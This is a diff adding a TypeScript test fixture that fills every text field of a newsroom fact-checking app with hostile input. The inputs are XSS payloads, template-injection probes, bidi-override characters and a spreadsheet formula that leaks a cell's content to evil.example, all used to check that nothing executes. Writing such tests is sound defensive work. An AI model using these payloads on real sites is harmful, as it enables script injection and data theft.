@@ -1,0 +1,148 @@
+import { newId } from "#lib/core/ids.ts";
+import type { Actor } from "#lib/platform/command/actor.ts";
+import { inScope } from "#lib/platform/db/transactions.ts";
+import { addAnnotation } from "./annotations/commands/add-annotation.ts";
+import { importArticle } from "./articles/commands/import-article.ts";
+import { changeWordList } from "./check-settings/commands/change-word-list.ts";
+import { changeChecklist } from "./checklists/commands/change-checklist.ts";
+import { openClaim } from "./claims/commands/open-claim.ts";
+import { proposeVerdict } from "./claims/commands/propose-verdict.ts";
+import { withdrawClaim } from "./claims/commands/withdraw-claim.ts";
+import { approveClaim } from "./decisions/commands/approve-claim.ts";
+import { attachEvidence } from "./evidence/commands/attach-evidence.ts";
+import { addMember } from "./members/commands/add-member.ts";
+import { founderOf, foundNewsroom } from "./members/commands/found-newsroom.ts";
+import { addReply } from "./replies/commands/add-reply.ts";
+import { editArticle } from "./revisions/commands/edit-article.ts";
+import { addSource } from "./sources/commands/add-source.ts";
+import { rangeOf } from "./test-article.ts";
+import { testChecks } from "./test-checks.ts";
+import { makeToken } from "./tokens/commands/make-token.ts";
+
+/** Where a page of ours that runs what it is given would leave its mark. */
+export const mark = "__stetActed";
+
+/**
+ * Everything that acts somewhere: markup that runs, or loads from elsewhere, in HTML and in an
+ * attribute; templates of several kinds; a spreadsheet's formula; Typst; marks that turn the order of
+ * what follows; characters that nobody sees.
+ */
+const pieces = [
+  '=HYPERLINK("https://evil.example/?"&A1)',
+  `"'><script>window.${mark}="script"</script>`,
+  `<img src="https://evil.example/x.png" onerror="window.${mark}='img'">`,
+  `<svg/onload=window.${mark}="svg"><style>*{display:none}</style>`,
+  `</title></textarea><iframe srcdoc="<script>parent.${mark}=1</script>"></iframe>`,
+  `javascript:window.${mark}="url"`,
+  `{{7*7}} \${7*7} <%= 7*7 %> #{7*7} {t('x')} {0} {name}`,
+  '#panic("typst") $ x^2 $ @ref *bold* _it_',
+  "\u202Egnp.exe\u2066\u2069\u202D \u200Bze\u200Dro\u2060\uFEFF wi\u00ADdth",
+  "Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034Falgo 👩‍👩‍👧‍👦 عربي",
+];
+
+/** As much of it as a field takes, each time beginning with another piece. */
+export function hostile(most: number, first = 0): string {
+  const turned = [
+    ...pieces.slice(first % pieces.length),
+    ...pieces.slice(0, first % pieces.length),
+  ];
+  const once = turned.join(" ");
+  return once
+    .repeat(Math.ceil(most / once.length))
+    .slice(0, most)
+    .toWellFormed()
+    .trim();
+}
+
+const password = "a password of the hostile newsroom";
+
+/** A newsroom with such words in every field that takes words, up to what it takes. */
+export async function testHostileNewsroom() {
+  const slug = `hostile-${newId().slice(-12)}`;
+  const newsroom = { slug, name: hostile(120, 1) };
+  const email = `reader@${slug}.example`;
+  const roles = ["admin", "editor", "reviewer", "reporter", "auditor"];
+  const founder = { name: hostile(120, 2), email, password, roles };
+  const operator = founderOf({ ...newsroom, founder: founder.name });
+  const made = await foundNewsroom.run(operator, { newsroom, founder });
+  const reader: Actor = { ...operator, ...made, roles, operator: undefined };
+  async function join(role: string, first: number): Promise<Actor> {
+    const person = { name: hostile(120, first), email: `${role}@${slug}.example` };
+    const { memberId } = await addMember.run(reader, { ...person, password, roles: [role] });
+    const { personId } = await inScope(reader, (db) =>
+      db.member.findFirstOrThrow({ where: { id: memberId } }),
+    );
+    return { ...reader, memberId, personId, name: person.name, roles: [role] };
+  }
+  const reporter = await join("reporter", 3);
+  const reviewer = await join("reviewer", 4);
+  const told = "Three countries sent envoys: Chad, Mali, Niger and Togo.";
+  const content = `${told}\n${pieces.map((_, first) => hostile(600, first)).join("\n")}`;
+  const draft = { format: "txt", language: "en", direction: "ltr", publishedOn: "2024-05-17" };
+  const of = { ...draft, timeZone: "UTC", bylineText: hostile(300, 5) };
+  const ids = await importArticle.run(reporter, { ...of, title: hostile(300, 6), content });
+  const { articleId } = ids;
+  const long = hostile(990_000).replaceAll("</title>", "</title>\n");
+  const large = await importArticle.run(reporter, { ...of, title: hostile(300, 7), content: long });
+  await writeEverything({ reporter, reviewer, editor: reader }, ids);
+  return { slug, email, password, articleId, largeId: large.articleId };
+}
+
+type Desk = Record<"reporter" | "reviewer" | "editor", Actor>;
+
+async function writeEverything(desk: Desk, ids: { articleId: string; revisionId: string }) {
+  const { reporter, reviewer, editor } = desk;
+  const { articleId } = ids;
+  // Of this revision; the next asks for its own.
+  await testChecks(reviewer, { articleId });
+  const first = await inScope(editor, (db) =>
+    db.revision.findFirstOrThrow({ where: { id: ids.revisionId } }),
+  );
+  const document = JSON.parse(first.document);
+  document.content.push({ type: "paragraph", content: [{ type: "text", text: hostile(600, 8) }] });
+  const edited = await editArticle.run(reporter, { ...ids, document, note: hostile(1_000, 9) });
+  const { revisionId } = edited;
+  const revision = await inScope(editor, (db) =>
+    db.revision.findFirstOrThrow({ where: { id: revisionId } }),
+  );
+  const article = { articleId, revisionId, text: revision.text };
+  const about = { articleId, revisionId };
+  const title = hostile(300, 1);
+  const file = { name: `${hostile(240, 2)}.html`, mediaType: "text/html" };
+  const bytes = new TextEncoder().encode(`<script>window.${mark}="file"</script>`);
+  await addSource.run(reporter, { kind: "file", articleId, title, file: { ...file, bytes } });
+  const note = hostile(20_000, 3);
+  await addSource.run(reporter, { kind: "note", articleId, title: hostile(300, 4), note });
+  const url = `https://example.org/?q=${encodeURIComponent(hostile(300))}`;
+  const web = { kind: "url", articleId, title, url, note };
+  const { sourceId } = await addSource.run(reporter, web);
+  const ranges = [rangeOf(article, "Three countries")];
+  const comment = { ...about, kind: "comment", body: hostile(10_000, 5), ranges };
+  const { annotationId } = await addAnnotation.run(reviewer, comment);
+  const suggestion = { kind: "suggestion", body: hostile(900), replacement: hostile(900, 6) };
+  await addAnnotation.run(reviewer, { ...about, ...suggestion, ranges });
+  await addReply.run(editor, { annotationId, body: hostile(10_000, 7) });
+  const claim = { ...about, ranges, statement: hostile(2_000, 8) };
+  const { claimId } = await openClaim.run(reviewer, claim);
+  const evidence = { claimId, sourceId, stance: "refutes" };
+  const words = { locator: hostile(500, 9), quote: hostile(20_000, 1) };
+  await attachEvidence.run(reviewer, { ...evidence, ...words });
+  const verdict = { rating: "wrong", disposition: "corrected", rationale: hostile(5_000, 2) };
+  const texts = { oldText: "Three countries", newText: hostile(2_000, 3) };
+  const { verdictId } = await proposeVerdict.run(reviewer, { claimId, ...verdict, ...texts });
+  await approveClaim.run(editor, { claimId, verdictId, reason: hostile(5_000, 4) });
+  const other = await openClaim.run(reviewer, { ...about, statement: hostile(2_000, 5) });
+  await withdrawClaim.run(reviewer, { claimId: other.claimId, reason: hostile(5_000, 6) });
+  const items = [hostile(300, 6), hostile(300, 7)];
+  const seen = await inScope(editor, (db) =>
+    db.checklistItem.findMany({
+      where: { category: "number", ordinal: { not: null } },
+      orderBy: { ordinal: "asc" },
+    }),
+  );
+  const asked = { category: "number", items, seen: seen.map(({ id }) => id) };
+  await changeChecklist.run(editor, asked);
+  const entries = [[hostile(100, 1), hostile(100, 8)]];
+  await changeWordList.run(editor, { kind: "spellings", entries, version: 0 });
+  await makeToken.run(editor, { name: hostile(80, 2), scopes: ["read"], days: 7 });
+}
